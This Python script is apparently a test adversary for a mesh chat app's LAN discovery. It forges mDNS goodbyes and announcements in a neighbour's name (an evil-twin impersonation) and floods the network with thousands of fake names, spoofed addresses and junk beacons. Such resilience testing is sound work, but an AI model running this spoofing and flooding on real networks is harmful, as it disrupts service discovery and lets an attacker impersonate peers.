"""A hostile host on the LAN: ``attacker.py OWN_IP NEIGHBOUR_SID``.

Floods with forged mDNS names and beacons, says goodbye in the neighbour's
name, and claims to be the neighbour (evil twin). Prints what it did.
"""

import json
import os
import socket
import sys
import time

from zeroconf import DNSAddress, DNSOutgoing, DNSPointer, DNSService, DNSText
from zeroconf.const import _CLASS_IN, _FLAGS_AA, _FLAGS_QR_RESPONSE

from meshchat.net.beacon import BEACON_PORT, GROUP_V4, encode

SERVICE = "_meshchat._tcp.local."
A, PTR, TXT, SRV = 1, 12, 16, 33


def records(sid: bytes, ip: str, port: int, ttl: int) -> DNSOutgoing:
    """An mDNS answer that announces (or with ttl 0 withdraws) a name."""
    out = DNSOutgoing(_FLAGS_QR_RESPONSE | _FLAGS_AA)
    name, server = f"{sid.hex()}.{SERVICE}", f"{sid[:10].hex()}.local."
    out.add_answer_at_time(DNSPointer(SERVICE, PTR, _CLASS_IN, ttl, name), 0)
    out.add_answer_at_time(DNSService(name, SRV, _CLASS_IN, ttl, 0, 0, port, server), 0)
    out.add_answer_at_time(DNSText(name, TXT, _CLASS_IN, ttl, b"\x03v=1"), 0)
    out.add_answer_at_time(DNSAddress(server, A, _CLASS_IN, ttl, socket.inet_aton(ip)), 0)
    return out


def main(own: str, neighbour: str) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    sock.bind((own, 5353))
    mdns = ("224.0.0.251", 5353)
    twin = bytes.fromhex(neighbour)
    listener = socket.create_server((own, 0))  # accepts and says nothing
    port = listener.getsockname()[1]

    def forge(out: DNSOutgoing) -> None:
        for packet in out.packets():
            sock.sendto(packet, mdns)

    forge(records(twin, own, 1, 0))
    forge(records(twin, own, port, 4500))
    for n in range(5000):
        forge(records(os.urandom(16), own if n % 2 else f"10.101.{n >> 8}.{n & 255}", port, 4500))
        for data in (encode(os.urandom(16), 1 + n), encode(twin, port), os.urandom(24)):
            sock.sendto(data, (GROUP_V4, BEACON_PORT))
        if n % 50 == 0:
            time.sleep(0.02)
    forge(records(twin, own, 1, 0))
    print(json.dumps({"t": time.monotonic(), "kind": "done"}), flush=True)
    time.sleep(60)


main(*sys.argv[1:])
